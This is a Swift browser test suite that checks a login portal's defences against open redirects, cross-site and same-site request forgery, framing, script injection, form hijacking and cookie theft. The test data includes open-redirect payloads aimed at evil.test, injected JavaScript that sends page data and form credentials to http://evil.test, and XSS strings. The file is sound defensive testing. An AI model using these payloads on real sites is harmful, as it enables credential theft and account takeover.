import Foundation
import TestBed
import Testing

extension RealBrowser {
    @Suite("people whom somebody attacks")
    struct BrowserAttackTests {
        /// Addresses that lead elsewhere for one program or another.
        private static let elsewhere = [
            "//evil.test", "/\\evil.test", "\\\\evil.test", "///evil.test", "/\t/evil.test", "/\n/evil.test",
            "https:evil.test", "https:/evil.test", "https://evil.test/", "http://evil.test/", "HTTPS://EVIL.TEST/",
            "https://login.example.org@evil.test/", "https://login.example.org:x@evil.test/",
            "https://login.example.org.evil.test/", "https://evil.test\\@login.example.org/",
            "https://evil.test#.example.org",
            "https://evil.test%2f.example.org/", "https://example.org.evil.test/", "javascript:alert(1)",
            "data:text/html,hello", "//%65vil.test", "/%2f%2fevil.test/..//evil.test", " //evil.test",
            "\u{0}//evil.test",
            "/%5cevil.test/%2e%2e//evil.test", "http://login.example.org/", "https://login.example.org:444/",
        ]

        @Test("are never sent to another place by the page that they log in at")
        func openRedirects() async throws {
            let (_, browser) = try await Stage.enter()
            for (index, next) in Self.elsewhere.enumerated() {
                let query = next.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""
                try await browser.go("\(Stage.login)/login?next=\(query)")
                // The first logs in; whoever is logged in is sent on at once.
                if index == 0 { try await browser.logIn(as: .named("alice")) }
                let address = try await browser.address
                #expect(address.hasPrefix("\(Stage.login)/"), "\(next) led to \(address)")
            }
            // A field that somebody has changed counts no more than the address.
            for next in ["//evil.test", "https://evil.test/", "/\\evil.test"] {
                try await browser.forget()
                try await browser.go("\(Stage.login)/login?next=%2F")
                _ = try await browser.run(
                    "document.querySelector('[name=next]').value = arguments[0]",
                    .string(next)
                )
                try await browser.logIn(as: .named("alice"))
                let address = try await browser.address
                #expect(address == "\(Stage.login)/", "\(next) led to \(address)")
            }
            let wanted = "\(Stage.wiki)/docs"
            let query = wanted.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""
            try await browser.go("\(Stage.login)/login?next=\(query)")
            #expect(try await browser.address == wanted, "the hosts of redirect_hosts can be gone to")
        }

        @Test("are neither logged in nor out by pages of other sites")
        func crossSite() async throws {
            let (stage, browser) = try await Stage.enter()
            let login = try stage.publish(
                """
                <form method=post action="\(Stage.login)/login"><input name=username value=bob>
                <input name=password value=open-bob><input name=csrf value=x><button>Win a prize</button></form>
                """,
                as: "login.html"
            )
            let logout = try stage.publish(
                "<form method=post action=\"\(Stage.login)/logout\"><button>Win a prize</button></form>",
                as: "logout.html"
            )
            try await browser.go(login)
            try await browser.click("button")
            #expect(try await browser.text(of: "h1") == "This request cannot be understood")
            #expect(try await !browser.cookieNames.contains("__Host-ent_login"))

            try await browser.go(Stage.login)
            try await browser.logIn(as: .named("alice"))
            try await browser.go(logout)
            try await browser.click("button")
            #expect(try await browser.text(of: "h1") == "This request cannot be understood")
            let pictures = ["logout", "sessions", "login?username=bob&password=open-bob"].map {
                "<img src=\"\(Stage.login)/\($0)\">"
            }
            try await browser.go(try stage.publish(pictures.joined(), as: "pictures.html"))
            try await browser.go(Stage.login)
            #expect(try await browser.text(of: "h1") == "Your account")
            #expect(try await browser.text.contains("alice"))
        }

        @Test("are neither logged in nor out by applications of their own company")
        func sameSite() async throws {
            let (_, browser) = try await Stage.enter()
            try await browser.go("\(Stage.wiki)/docs")
            try await browser.logIn(as: .named("alice"))
            // Of the same site, so that the cookie goes with it: only where the form comes from tells.
            for (path, fields) in [
                ("logout", ""), ("sessions", "others=yes"), ("login", "username=bob&password=open-bob"),
            ] {
                try await browser.go("\(Stage.wiki)/docs")
                try await browser.follow {
                    _ = try await browser.run(
                        """
                        const form = document.createElement('form');
                        form.method = 'post'; form.action = arguments[0];
                        for (const [name, value] of new URLSearchParams(arguments[1])) {
                          const field = document.createElement('input');
                          field.name = name; field.value = value; form.append(field);
                        }
                        document.body.append(form); form.submit();
                        """,
                        .string("\(Stage.login)/\(path)"),
                        .string(fields)
                    )
                }
                #expect(try await browser.text(of: "h1") == "This request cannot be understood", "\(path)")
            }
            try await browser.go(Stage.login)
            #expect(try await browser.text(of: "h1") == "Your account")
            #expect(try await browser.text.contains("alice"))
        }

        @Test("see no page of the portal in a frame")
        func frames() async throws {
            let (stage, browser) = try await Stage.enter()
            _ = try stage.publish("<p>A frame that may be shown</p>", as: "inner.html")
            let outer = try stage.publish(
                "<iframe src=\"/inner.html\"></iframe><iframe src=\"\(Stage.login)/login\"></iframe>",
                as: "outer.html"
            )
            try await browser.go(outer)
            let tree = try await browser.tell("Page.getFrameTree")["frameTree"]["childFrames"].items
            let shown = tree.map { $0["frame"]["url"].text ?? "" }
            #expect(shown.first == "\(Stage.evil)/inner.html", "\(shown)")
            #expect(!shown.dropFirst().contains { $0.hasPrefix(Stage.login) }, "\(shown)")
        }

        @Test("run no script that got into a page, and no page sends anything elsewhere")
        func contentSecurity() async throws {
            let (stage, browser) = try await Stage.enter()
            let attack = """
                window.seen = [];
                document.addEventListener('securitypolicyviolation', event => seen.push(event.effectiveDirective));
                const script = document.createElement('script');
                script.textContent = 'window.hacked = true'; document.body.append(script);
                const button = document.createElement('button');
                button.setAttribute('onclick', 'window.hacked = true'); document.body.append(button); button.click();
                const style = document.createElement('style');
                style.textContent = 'h1 { opacity: 0 }'; document.body.append(style);
                const image = new Image(); image.src = 'http://evil.test/pixel?' + document.title;
                const frame = document.createElement('iframe'); frame.src = 'http://evil.test/'; document.body.append(frame);
                const base = document.createElement('base'); base.href = 'http://evil.test/'; document.head.append(base);
                fetch('http://evil.test/').catch(() => {});
                """
            try await browser.go("\(Stage.login)/login")
            _ = try await browser.run(attack)
            let stopped = try await browser.waitFor("return window.seen.length >= 6 ? window.seen : null").texts
            let directives: Set<String> = [
                "script-src-elem", "script-src-attr", "style-src-elem", "img-src", "frame-src", "base-uri",
                "connect-src",
            ]
            #expect(directives.isSubset(of: Set(stopped)), "\(stopped)")
            #expect(try await !browser.run("return window.hacked === true").isTrue)
            #expect(try await browser.run("return getComputedStyle(document.querySelector('h1')).opacity").text == "1")
            // The same attack on a page without a policy: the test can fail.
            try await browser.go(try stage.publish("<title>x</title><h1>x</h1>", as: "bare.html"))
            _ = try await browser.run(attack)
            #expect(try await browser.run("return window.hacked === true").isTrue)
        }

        @Test("cannot have their form sent elsewhere by a page that was tampered with")
        func formTargets() async throws {
            let (_, browser) = try await Stage.enter()
            try await browser.go("\(Stage.login)/login")
            _ = try await browser.run(
                """
                document.addEventListener('securitypolicyviolation', event => window.seen = event.effectiveDirective);
                document.querySelector('form').action = 'http://evil.test/';
                document.querySelector('#username').value = 'alice';
                document.querySelector('#password').value = 'open-alice';
                document.querySelector('form').requestSubmit();
                """
            )
            #expect(try await browser.waitFor("return window.seen || null").text == "form-action")
            #expect(try await browser.address == "\(Stage.login)/login")
        }

        @Test("have cookies that no script, no other host and no unencrypted page gets")
        func cookies() async throws {
            let (_, browser) = try await Stage.enter()
            try await browser.go("\(Stage.wiki)/docs")
            let before = try await browser.cookies
            #expect(before.allSatisfy { $0["name"].text != "__Host-ent_login" }, "before the login it has another name")
            try await browser.logIn(as: .named("alice"))
            let cookies = try await browser.cookies
            let ours = cookies.filter { $0["name"].text == "__Host-ent_login" }
            #expect(Set(ours.compactMap { $0["domain"].text }) == ["login.example.org", "wiki.example.org"])
            #expect(Set(ours.compactMap { $0["value"].text }).count == 2, "each host has a token of its own")
            for cookie in before + cookies {
                #expect(cookie["name"].text?.hasPrefix("__Host-") == true, "\(cookie)")
                #expect(cookie["secure"].isTrue && cookie["httpOnly"].isTrue && cookie["path"] == "/", "\(cookie)")
                #expect(["Lax", "Strict"].contains(cookie["sameSite"].text ?? ""), "\(cookie)")
                #expect((cookie["size"].number ?? 0) <= 4096, "\(cookie)")
            }
            for cookie in ours { #expect(cookie["session"].isTrue, "\(cookie)") }
            for page in [Stage.login, "\(Stage.wiki)/docs"] {
                try await browser.go(page)
                #expect(try await browser.run("return document.cookie").text == "")
                let stored = "return localStorage.length + sessionStorage.length"
                #expect(try await browser.run(stored).number == 0)
            }
        }

        @Test("see as text what somebody else has typed")
        func markup() async throws {
            let (_, browser) = try await Stage.enter()
            let name = #""><img src=x onerror=alert(1)><b>{{csrf}}"#
            try await browser.go("\(Stage.login)/login")
            try await browser.logIn(name, "wrong")
            #expect(try await browser.property("value", of: "#username") == name)
            #expect(try await browser.count("img, b") == 0)
            try await browser.go("\(Stage.login)/%3Cscript%3Ealert(1)%3C/script%3E")
            #expect(try await browser.text(of: "h1") == "Page not found")
            #expect(try await browser.count("script") == 0)
        }
    }
}
